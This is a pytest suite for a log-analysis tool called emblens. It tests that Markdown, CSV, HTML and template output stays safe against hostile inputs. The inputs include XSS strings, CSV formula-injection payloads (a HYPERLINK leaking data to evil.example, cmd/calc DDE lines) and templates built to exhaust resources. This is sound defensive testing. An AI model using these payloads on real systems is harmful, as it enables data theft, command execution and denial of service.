"""What emblens writes is safe to open, whatever the inputs and rule folders held: no HTML from them
in the Markdown report, no tag-like placeholders, no spreadsheet formulas in the CSV export, no
invisible or bidi characters acting in any report, a rule template that cannot stall a run, rule
files looked at before they are read, and reports and exports written whole or not at all."""

import csv
import json
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from emblens.frontends.cli import app

REPO = Path(__file__).resolve().parents[1]
SAMPLES = REPO / "samples"
MISMATCH = SAMPLES / "model-name-mismatch"
runner = CliRunner()

XSS = ("<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>")
# invisible and bidi characters: zero-width space, ZWNJ, ZWJ, word joiner, BOM inside text, LRE..RLO,
# LRI..PDI, LRM/RLM, Arabic letter mark
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def _emblens(*args: str, timeout: float = 120, env: dict | None = None, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "emblens", *args], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})}, **kw)


def _rules(folder: Path, files: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def _rendered(md: str) -> str:
    """The Markdown as a renderer that lets raw HTML through makes it (markdown-it, CommonMark with
    GFM tables: the strictest test, since anything left raw would be HTML in the page)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(md)


# -- Markdown: HTML from inputs and rule folders -----------------------------------------------------
HTML_RULE = """id: test.boom
title: "Boom <img src=x onerror=alert(1)> title"
severity: error
means: "An input line said boom <a href='javascript:alert(1)'>x</a> and this is what it means."
match: {message: {regex: "boom (?P<what>.*)$"}}
message: "It said {{ what }}; quoted: `{{ what }}`. <img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a>"
remedy: ["Look at <a href='javascript:alert(1)'>the line</a> [click](javascript:alert(1))"]
"""


def test_markdown_carries_no_html_from_inputs_or_rule_folders(tmp_path):
    log = tmp_path / "app.log"
    log.write_text("2025-11-20 09:14:02 ERROR boom " + " ".join(XSS) + "\n"
                   "2025-11-20 09:14:03 ERROR boom x` " + XSS[0] + " `y\n"
                   "2025-11-20 09:14:04 ERROR crash " + " ".join(XSS) + "\n", encoding="utf-8")
    rules = _rules(tmp_path / "rules", {"boom.yaml": HTML_RULE})
    r = runner.invoke(app, ["analyze", str(log), "--rules", str(rules), "--format", "markdown"])
    assert r.exit_code == 0, r.output
    md = r.output
    assert "test.boom" in md
    html = _rendered(md)
    assert not re.search(r"<img|<a\s", html, re.I), [ln for ln in html.splitlines() if re.search(r"<img|<a\s", ln)]
    assert 'href="javascript' not in html
    # the text is still there for a reader, shown rather than acted on
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


# -- placeholders ------------------------------------------------------------------------------------
# what a placeholder written like a tag looks like (`<served name>`, `Bearer <key>`); a real tag quoted
# from an input (an nginx error page) and the shape a masked value leaves (`<empty>`) are not placeholders
TAG_LIKE = re.compile(r"<([a-z][a-z ]*)>")
HTML_TAGS = frozenset("html head title body center hr h1 h2 h3 p br pre code div span a b i em strong table tr td th"
                      " ul ol li".split())
MASK_SHAPES = frozenset(("empty",))


def _placeholders(text: str) -> list[str]:
    text = text.replace("&lt;", "<").replace("&gt;", ">")
    return [m.group() for m in TAG_LIKE.finditer(text) if m.group(1) not in HTML_TAGS | MASK_SHAPES]


def test_no_tag_like_placeholders_in_any_report_of_the_samples():
    cases = [*sorted(SAMPLES.glob("*.zip")), REPO / "rules" / "model" / "not_found.pos-openai1.109.txt"]
    found = {}
    for path in cases:
        for fmt in ("markdown", "text", "html"):
            r = runner.invoke(app, ["analyze", str(path), "--format", fmt, "--width", "200"])
            assert r.exit_code == 0, r.output
            out = r.output if fmt != "html" else re.sub(r"<[^>]*>", " ", r.output)   # the page's text, not its tags
            if _placeholders(out):
                found[f"{path.name} ({fmt})"] = sorted(set(_placeholders(out)))
    assert not found


# -- CSV export ----------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_them(tmp_path):
    log = tmp_path / "formulas.log"
    log.write_text("".join(f + "\n" for f in FORMULAS), encoding="utf-8")
    out = tmp_path / "events.csv"
    r = runner.invoke(app, ["events", str(log), "-o", str(out)])
    assert r.exit_code == 0, r.output
    with out.open(newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    jl = tmp_path / "events.jsonl"
    assert runner.invoke(app, ["events", str(log), "-o", str(jl)]).exit_code == 0
    texts = [json.loads(line)["text"] for line in jl.read_text(encoding="utf-8").splitlines()]
    assert [t for t in texts if t in FORMULAS] == [f for f in FORMULAS if f in texts] and FORMULAS[0] in texts


# -- rule templates ------------------------------------------------------------------------------------
LOOP_RULE = """id: test.loop
title: A rule whose template loops
severity: warning
means: A template that nests loops until the run would never end, from a rules folder.
match: {message: {contains: "loop-me"}}
message: "before {% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %} after"
remedy: ["{% for i in range(1000) %}{% for j in range(1000) %}{% for k in range(1000) %}{% endfor %}{% endfor %}{% endfor %}"]
"""


def test_a_nested_range_template_stops_fast_with_one_line_naming_the_rule(tmp_path):
    work = tmp_path / "in"
    work.mkdir()
    (work / "client.txt").write_bytes((MISMATCH / "client-traceback.txt").read_bytes())
    (work / "app.log").write_text("2025-11-20 09:14:02 ERROR loop-me now\n", encoding="utf-8")
    rules = _rules(tmp_path / "rules", {"loop.yaml": LOOP_RULE})
    out = tmp_path / "report.json"
    started = time.monotonic()
    try:
        r = _emblens("analyze", str(work), "--rules", str(rules), "-o", str(out), timeout=45,
                     env={"EMBLENS_CACHE_DIR": str(tmp_path / "cache")})
    except subprocess.TimeoutExpired:
        pytest.fail("the template ran for 45 s")
    assert time.monotonic() - started < 30
    assert r.returncode == 0, r.stderr
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("emblens: error:")]
    assert len(errors) == 1 and "test.loop" in errors[0], r.stderr
    assert "Traceback" not in r.stderr
    report = json.loads(out.read_text(encoding="utf-8"))
    rules_found = {f["rule"] for f in report["findings"]}
    assert {"test.loop", "model.not_found"} <= rules_found          # the rest of the analysis is there
    loop = next(f for f in report["findings"] if f["rule"] == "test.loop")
    assert "[template error:" in loop["summary"] and "[template error:" in loop["remedy"]


def test_a_template_cannot_build_a_huge_text():
    from emblens.rules import templates

    for source in ('{{ "x" * 1000000000 }}', '{{ "x" | center(1000000000) }}', '{{ "x".ljust(1000000000) }}',
                   '{{ "%999999999d" % 1 }}', '{{ "{:>999999999}".format(1) }}',
                   '{% set ns = namespace(s="xxxxxxxx") %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}'
                   '{{ ns.s }}',
                   '{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}'):
        started = time.monotonic()
        text = templates.render(source, {})
        assert text.startswith("[template error:") and len(text) < 300, (source, text[:200])
        assert time.monotonic() - started < 5, source
    assert templates.render("{{ n | plural('request') }} to {{ m | codes }}", {"n": 3_000_000, "m": ["a"]}) == \
        "3,000,000 requests to `a`"


# -- invisible and bidi characters ---------------------------------------------------------------------
def _no_invisible(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in text if c in INVISIBLE})


def test_invisible_and_bidi_characters_are_shown_escaped_in_names_and_member_names(tmp_path):
    client = (MISMATCH / "client-traceback.txt").read_text(encoding="utf-8")
    client = client.replace("qwen3-embedding-4b", "Qwen3-Embedding\u200b-4B")   # prints as the served name
    bundle = tmp_path / "b.zip"
    with zipfile.ZipFile(bundle, "w") as zf:
        zf.writestr("client\u202etxt.log", client + "note " + INVISIBLE + " end\n")
        zf.writestr("vllm\u200b-server.log", (MISMATCH / "vllm-server.log").read_bytes())
    outputs = {}
    for fmt in ("text", "markdown", "html"):
        r = runner.invoke(app, ["analyze", str(bundle), "--format", fmt, "--width", "200"])
        assert r.exit_code == 0, r.output
        outputs[fmt] = r.output
    for fmt, out in outputs.items():
        assert not _no_invisible(out), (fmt, _no_invisible(out))
        assert "client\\u202etxt.log" in out, fmt                   # the member's name, escaped
        assert "vllm\\u200b-server.log" in out, fmt
        assert "Qwen3-Embedding\\u200b-4B" in out, fmt                # the asked name differs visibly
    md = outputs["markdown"]
    summary = next(ln for ln in md.splitlines() if ln.startswith("**Summary:**"))
    assert "asked for model `Qwen3-Embedding\\u200b-4B`" in summary and "Did you mean `Qwen3-Embedding-4B`" in summary


# -- rule files are looked at before they are read -----------------------------------------------------
GOOD_RULE = ("id: test.good\ntitle: t\nseverity: error\nmeans: a rule that is fine in every way\n"
             "match: {message: {contains: zzz}}\nmessage: x\nremedy: [x]\n")


def _refuse_reading(monkeypatch, forbidden: Path) -> None:
    """Make any read of `forbidden` fail the test (before a byte of it is read)."""
    import builtins
    import io
    import pathlib

    target = os.path.realpath(forbidden)

    def _is_it(p) -> bool:
        try:
            return isinstance(p, (str, bytes, os.PathLike)) and os.path.realpath(os.fsdecode(p)) == target
        except (TypeError, ValueError):
            return False

    def guard(original, path_arg: int = 0):
        def wrapped(*args, **kwargs):
            if len(args) > path_arg and _is_it(args[path_arg]):
                raise AssertionError(f"{forbidden} was opened for reading")
            return original(*args, **kwargs)
        return wrapped

    monkeypatch.setattr(builtins, "open", guard(builtins.open))
    monkeypatch.setattr(io, "open", guard(io.open))
    monkeypatch.setattr(os, "open", guard(os.open))
    for name in ("read_bytes", "read_text", "open"):
        monkeypatch.setattr(pathlib.Path, name, guard(getattr(pathlib.Path, name)))


def test_a_huge_sparse_rule_file_is_refused_before_it_is_read(tmp_path, monkeypatch):
    from emblens.errors import RuleError
    from emblens.rules.loader import load_rules

    rules = _rules(tmp_path / "rules", {"good.yaml": GOOD_RULE})
    big = rules / "big.yaml"
    with big.open("wb") as f:
        f.truncate(3 * 1024 ** 3)                  # 3 GiB, sparse: no disk, no time
    _refuse_reading(monkeypatch, big)
    started = time.monotonic()
    with pytest.raises(RuleError, match=r"big\.yaml: larger than"):
        load_rules([rules])
    assert time.monotonic() - started < 10


def test_a_rule_file_linked_from_outside_the_folder_is_not_read_nor_echoed(tmp_path, monkeypatch):
    from emblens.errors import RuleError
    from emblens.rules.loader import load_rules

    outside = tmp_path / "private" / "notes.yaml"
    outside.parent.mkdir()
    outside.write_text("id: TOPSECRET.Hunter2\ntitle: HUNTER2-PASSWORD\nseverity: error\nmeans: m\n"
                       "match: {message: {contains: x}}\nmessage: x\nremedy: [x]\n", encoding="utf-8")
    rules = _rules(tmp_path / "rules", {"good.yaml": GOOD_RULE})
    (rules / "linked.yaml").symlink_to(outside)
    _refuse_reading(monkeypatch, outside)
    with pytest.raises(RuleError) as e:
        load_rules([rules])
    message = str(e.value)
    assert "linked.yaml" in message and "outside the rules folder" in message
    assert "TOPSECRET" not in message and "HUNTER2" not in message.upper()


def test_an_error_quotes_a_rule_file_only_in_a_short_masked_excerpt(tmp_path):
    from emblens.errors import RuleError
    from emblens.rules.loader import EXCERPT, load_rules

    secret = "sk-" + "A1b2C3d4" * 6
    long_key = "x" * 500
    rules = _rules(tmp_path / "rules", {"bad.yaml": GOOD_RULE.replace("id: test.good", f"id: {secret}")
                                        + f"{long_key}: 1\n"})
    with pytest.raises(RuleError) as e:
        load_rules([rules])
    message = str(e.value)
    assert secret not in message and "A1b2C3d4A1b2" not in message
    assert "x" * (EXCERPT + 1) not in message
    r = _emblens("analyze", str(MISMATCH), "--rules", str(rules))
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and secret not in r.stderr


# -- atomic writes -------------------------------------------------------------------------------------
def _file_size_limit(limit: int):
    """For a child process: writes past `limit` bytes fail with EFBIG (a full disk, in effect)."""
    def limit_writes() -> None:
        import resource

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return limit_writes


@pytest.mark.parametrize("args, name", [
    (("analyze", str(MISMATCH), "--format", "markdown"), "report.md"),
    (("analyze", str(MISMATCH), "--format", "html"), "report.html"),
    (("events", str(MISMATCH)), "events.csv"),
    (("events", str(MISMATCH)), "events.jsonl"),
    (("events", str(MISMATCH)), "events.parquet"),
])
def test_a_write_that_fails_half_way_leaves_the_old_file_intact(tmp_path, args, name):
    target = tmp_path / name
    old = b"the report of yesterday\n" * 10
    target.write_bytes(old)
    r = _emblens(*args, "-o", str(target), env={"EMBLENS_NO_CACHE": "1"}, preexec_fn=_file_size_limit(1024))
    assert r.returncode == 2, r.stderr
    assert target.read_bytes() == old
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("emblens: error:") and "Traceback" not in r.stderr, r.stderr
    assert [p.name for p in tmp_path.iterdir()] == [name]          # no temporary file left behind
    if args[0] == "analyze":
        # what cannot be replaced is written straight: /dev/null stays a device
        r = runner.invoke(app, [*args, "-o", os.devnull])
        assert r.exit_code == 0 and not Path(os.devnull).is_file(), r.output
        # and a folder that is not there is one line, as before
        r = runner.invoke(app, [*args, "-o", str(tmp_path / "no-such-folder" / name)])
        assert r.exit_code == 2 and "cannot write" in r.output and len(r.output.strip().splitlines()) == 1
